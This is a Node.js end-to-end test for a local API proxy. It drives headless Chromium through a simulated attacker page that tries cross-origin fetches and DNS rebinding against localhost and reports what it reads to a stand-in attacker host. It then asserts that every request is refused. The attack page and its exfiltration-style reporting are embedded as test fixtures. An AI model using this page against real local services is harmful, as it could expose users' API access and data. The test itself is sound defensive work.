// A real browser (headless Chromium) on a web page of another origin tries to use `anthropic-wif proxy`,
// as an attacker's page in the user's browser would (issue 10, item 1):
//
// 1. cross-origin requests to http://127.0.0.1:PORT and http://localhost:PORT: fetch() in no-cors mode
//    with a text/plain POST (sent without a preflight), a CORS text/plain POST, a JSON POST with
//    x-api-key (needs a preflight), GETs;
// 2. DNS rebinding: the page's own origin http://rebind.attacker.test:X, whose name Chromium resolves to
//    127.0.0.1 (--host-resolver-rules), stops being the page's server and starts leading to the proxy
//    (here: new connections to X are piped to the proxy, which is what a rebound name achieves), so the
//    page's same-origin requests reach the proxy with `Host: rebind.attacker.test:X`.
//
// The page reports what it could read to a third origin. Nothing it reads may carry data from upstream
// (or from the proxy), the emulator must see no request at all, and every request that reached the
// proxy must have been answered 403. Programs (Node's fetch here) are still served.
//
// Needs Chromium: `apt-get install chromium` (scripts/test.sh installs it when missing); CHROMIUM
// overrides the binary. Run: node --test tests/e2e/proxy_browser.test.mjs (debug binary built).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';

/** Kill Chromium's whole process group (its renderer and utility processes too) and wait for it to exit. */
async function stopChrome(chrome) {
  if (!chrome || chrome.exitCode !== null || chrome.signalCode !== null) return;
  const exited = new Promise((ok) => chrome.once('exit', ok));
  try {
    process.kill(-chrome.pid, 'SIGKILL');
  } catch {
    chrome.kill('SIGKILL');
  }
  await exited;
}
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer as httpServer } from 'node:http';
import { connect, createServer as netServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { proxyStack } from './proxy_stack.mjs';

const BODY = JSON.stringify({ model: 'claude-test', max_tokens: 16, messages: [{ role: 'user', content: 'hello' }] });

function chromium() {
  const found = [process.env.CHROMIUM, '/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome']
    .find((c) => c && existsSync(c));
  assert.ok(found, 'Chromium is needed for this test: apt-get install chromium (scripts/test.sh installs it)');
  return found;
}

function listen(server) {
  return new Promise((ok) => server.listen(0, '127.0.0.1', () => ok(server.address().port)));
}

// The attacker's page. It runs its attempts, reports them, waits until its origin leads to the proxy,
// tries again with same-origin requests and reports those.
function page(proxyPort, reportUrl) {
  const script = `
const BODY = ${JSON.stringify(BODY)};
async function attempt(name, url, init) {
  try {
    const r = await fetch(url, init);
    let text = '';
    try { text = await r.text(); } catch (e) { text = ''; }
    return { name, type: r.type, status: r.status, text };
  } catch (e) {
    return { name, error: String(e) };
  }
}
const report = (v) => fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(v) });
(async () => {
  const results = [];
  for (const base of ['http://127.0.0.1:${proxyPort}', 'http://localhost:${proxyPort}']) {
    results.push(await attempt('no-cors text/plain POST ' + base, base + '/v1/messages', { method: 'POST', mode: 'no-cors', body: BODY }));
    results.push(await attempt('cors text/plain POST ' + base, base + '/v1/messages', { method: 'POST', body: BODY, headers: { 'content-type': 'text/plain' } }));
    results.push(await attempt('cors JSON POST with x-api-key (preflight) ' + base, base + '/v1/messages',
      { method: 'POST', body: BODY, headers: { 'content-type': 'application/json', 'x-api-key': 'placeholder', 'anthropic-version': '2023-06-01' } }));
    results.push(await attempt('cors GET ' + base, base + '/v1/models', {}));
    results.push(await attempt('no-cors GET /healthz ' + base, base + '/healthz', { mode: 'no-cors' }));
  }
  await report({ phase: 1, results });
  let rebound = false;
  for (let i = 0; i < 1200 && !rebound; i++) {
    try { rebound = (await (await fetch('/whoami', { cache: 'no-store' })).text()) !== 'page-server'; } catch (e) { rebound = false; }
    if (!rebound) await new Promise((ok) => setTimeout(ok, 50));
  }
  const same = [];
  same.push(await attempt('same-origin JSON POST after rebinding', '/v1/messages', { method: 'POST', body: BODY, headers: { 'content-type': 'application/json' } }));
  same.push(await attempt('same-origin text/plain POST after rebinding', '/v1/messages', { method: 'POST', body: BODY }));
  same.push(await attempt('same-origin GET /healthz after rebinding', '/healthz', { cache: 'no-store' }));
  await report({ phase: 2, rebound, results: same });
})();`;
  return `<!doctype html><html><head><meta charset="utf-8"><title>not the proxy</title></head><body><script>${script}</script></body></html>`;
}

test('a web page of another origin gets nothing from the proxy: cross-origin fetch, preflight, DNS rebinding', { timeout: 240_000 }, async () => {
  const browser = chromium();
  const stack = await proxyStack();
  const proxyPort = new URL(stack.proxyUrl).port;
  const servers = [];
  let chrome;
  const profile = mkdtempSync(join(tmpdir(), 'wif-chromium-'));
  try {
    // Where the page reports (a third origin).
    const reports = [];
    let rebind = false;
    const reporter = httpServer((req, res) => {
      let b = '';
      req.on('data', (d) => (b += d));
      req.on('end', () => {
        res.end('ok');
        try {
          const v = JSON.parse(b);
          reports.push(v);
          if (v.phase === 1) rebind = true; // from now on, the page's own name leads to the proxy
        } catch (e) { /* not a report */ }
      });
    });
    servers.push(reporter);
    const reportPort = await listen(reporter);

    // The page's origin: serves the page until the rebinding, then pipes new connections to the proxy.
    // Every answer closes its connection, so the browser connects anew each time.
    const html = page(proxyPort, `http://report.attacker.test:${reportPort}/report`);
    const site = httpServer((req, res) => {
      res.setHeader('connection', 'close');
      res.setHeader('cache-control', 'no-store');
      if (req.url === '/whoami') return res.end('page-server');
      if (req.url === '/') {
        res.setHeader('content-type', 'text/html; charset=utf-8');
        return res.end(html);
      }
      res.statusCode = 404;
      res.end();
    });
    const origin = netServer((sock) => {
      if (!rebind) return site.emit('connection', sock);
      const up = connect(Number(proxyPort), '127.0.0.1');
      sock.pipe(up).pipe(sock);
      up.on('error', () => sock.destroy());
      sock.on('error', () => up.destroy());
    });
    servers.push(origin);
    const originPort = await listen(origin);

    chrome = spawn(browser, [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-dev-shm-usage',
      '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-default-browser-check',
      `--user-data-dir=${profile}`, '--host-resolver-rules=MAP *.attacker.test 127.0.0.1',
      `http://rebind.attacker.test:${originPort}/`,
    ], { stdio: ['ignore', 'ignore', 'pipe'], detached: true }); // its own process group: see stopChrome
    let chromeErr = '';
    chrome.stderr.on('data', (d) => (chromeErr += d));

    const t0 = Date.now();
    while (!reports.some((r) => r.phase === 2)) {
      assert.ok(Date.now() - t0 < 180_000, `the page did not finish within 180 s; reports: ${JSON.stringify(reports)}; chromium: ${chromeErr.slice(-2000)}`);
      assert.equal(chrome.exitCode, null, `chromium exited: ${chromeErr.slice(-2000)}`);
      await new Promise((ok) => setTimeout(ok, 100));
    }
    await stopChrome(chrome);

    const first = reports.find((r) => r.phase === 1);
    const second = reports.find((r) => r.phase === 2);
    assert.equal(first.results.length, 10);
    for (const r of first.results) {
      // Blocked by the browser (no CORS answer) or opaque: either way nothing readable.
      assert.ok(r.error !== undefined || (r.type === 'opaque' && r.text === ''), `${r.name}: the page read ${JSON.stringify(r)}`);
    }
    assert.equal(second.rebound, true, 'the page saw its origin lead to the proxy');
    assert.equal(second.results.length, 3);
    for (const r of second.results) {
      assert.equal(r.status, 403, `${r.name}: ${JSON.stringify(r)}`);
      assert.match(r.text, /permission_error/, r.name);
      assert.doesNotMatch(r.text, /emulator|"type":"message"|"status":"ready"|upstream|sk-ant-/, `${r.name}: ${r.text}`);
    }
    // Upstream saw nothing: not one request reached the Messages endpoint.
    const stats = await stack.control('/_emulator/stats');
    assert.equal(stats.message_requests, 0, JSON.stringify(stats));

    // A program is still served.
    const ok = await fetch(stack.proxyUrl + '/v1/messages', { method: 'POST', body: BODY, headers: { 'content-type': 'application/json' } });
    assert.equal(ok.status, 200);
    assert.equal((await ok.json()).type, 'message');

    const { code, log } = await stack.close();
    assert.equal(code, 0);
    // Every browser request that reached the proxy was refused: the access log has 403s only, then the
    // program's 200.
    const lines = log.split('\n').filter((l) => /^anthropic-wif proxy: [A-Z]+ \S+ \d{3} /.test(l));
    const statuses = lines.map((l) => l.split(' ')[4]);
    assert.ok(statuses.length >= 8, `the browser's requests reached the proxy: ${log}`);
    assert.deepEqual(statuses.slice(0, -1).filter((s) => s !== '403'), [], log);
    assert.equal(statuses.at(-1), '200', log);
    for (const kind of ['refused-sec-fetch-site', 'refused-host', 'refused-preflight']) assert.ok(log.includes(kind), `${kind}: ${log}`);
  } finally {
    await stopChrome(chrome);
    for (const s of servers) s.close();
    // Chromium's helpers may still be flushing the profile for a moment after the group is killed.
    rmSync(profile, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
    if (stack.proxy.child.exitCode === null) await stack.close();
  }
});
